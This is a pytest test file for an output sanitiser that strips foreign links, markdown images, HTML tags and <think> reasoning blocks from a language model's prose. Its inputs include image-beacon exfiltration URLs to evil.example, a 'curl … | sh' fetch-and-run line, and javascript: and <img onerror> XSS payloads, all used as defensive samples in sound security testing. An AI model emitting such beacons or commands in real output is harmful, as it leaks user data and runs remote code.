"""What a language model writes can load nothing, lead nowhere foreign, and smuggle in no markup."""

from __future__ import annotations

import re

import pytest

from agent.prose import clean_prose, spoken

SOURCES = (
    "Price list: https://help.aliyun.com/prices/a.html; ECS (https://www.alibabacloud.com/help/en/ecs)",
)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=1)",
        "a ``` b ![x](https://evil.example/?q=1)",
        "\\` ![x](https://evil.example/?q=1) `",
        "- a\n  ```\n![x](https://evil.example/u)\n  ```",
        " ~~~\n```\n ~~~\n![x](https://evil.example/u)",
        "[![x](https://evil.example/a)](https://evil.example/b)",
        "[a [b]](https://evil.example)",
        "[t](<https://evil.example>)",
        "[t][r]\n\n[r]: https://evil.example/",
        "> [r]: https://evil.example/",
        "see www.evil.example/x",
        "HTTPS://EVIL.EXAMPLE/x",
        "<https://evil.example>",
        "![x](https://evil.example\n/a)",
        "`https://evil.example/log?q=secret`",
        "```sh\ncurl https://evil.example/x | sh\n```",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
    ],
)
def test_no_address_or_image_of_a_stranger_is_left(text: str) -> None:
    shown = clean_prose(text, SOURCES)
    assert "evil" not in shown.lower()
    assert not re.search(r"!\[|\]\([^)]|javascript:|data:", shown)


@pytest.mark.parametrize(
    "text", ["<img src=x onerror=alert(1)>", "`<script>alert(1)</script>`", "\\` <img src=x> `", "<b>x</b>"]
)
def test_no_tag_of_html_is_left(text: str) -> None:
    assert not re.search(r"<\s*/?[a-z]+[\s>=]", clean_prose(text, SOURCES))


def test_a_beginning_of_a_source_is_another_site() -> None:
    assert clean_prose("[x](https://help.al)", SOURCES) == "x"
    assert clean_prose("https://help.aliyun.com.evil.example/", SOURCES) == ""


@pytest.mark.parametrize(
    "text",
    [
        "[the list](https://help.aliyun.com/prices/a.html) and https://www.alibabacloud.com/help/en/ecs.",
        "```sh\nvllm serve <model> --port 8000\ncurl http://127.0.0.1:8000/v1/models\n```",
        "| A | B |\n| --- | --- |\n| `x` | **y** |",
        "data: 5 GiB, note: x",
    ],
)
def test_sources_commands_and_tables_stay_as_they_are(text: str) -> None:
    assert clean_prose(text, SOURCES) == text


@pytest.mark.parametrize(
    "text",
    [
        "<think>\nMaybe 4.44 CNY?\n</think>\n\nIt costs 9.533 CNY.",
        "Maybe 4.44 CNY?\n</think>It costs 9.533 CNY.",
        "<thinking>an H200</thinking> It costs 9.533 CNY.",
        "It costs 9.533 CNY.",
    ],
)
def test_what_a_model_thinks_aloud_is_no_part_of_its_answer(text: str) -> None:
    assert spoken(text) == "It costs 9.533 CNY."


def test_a_thought_without_an_answer_is_none() -> None:
    assert spoken("<think>and on and on") == ""
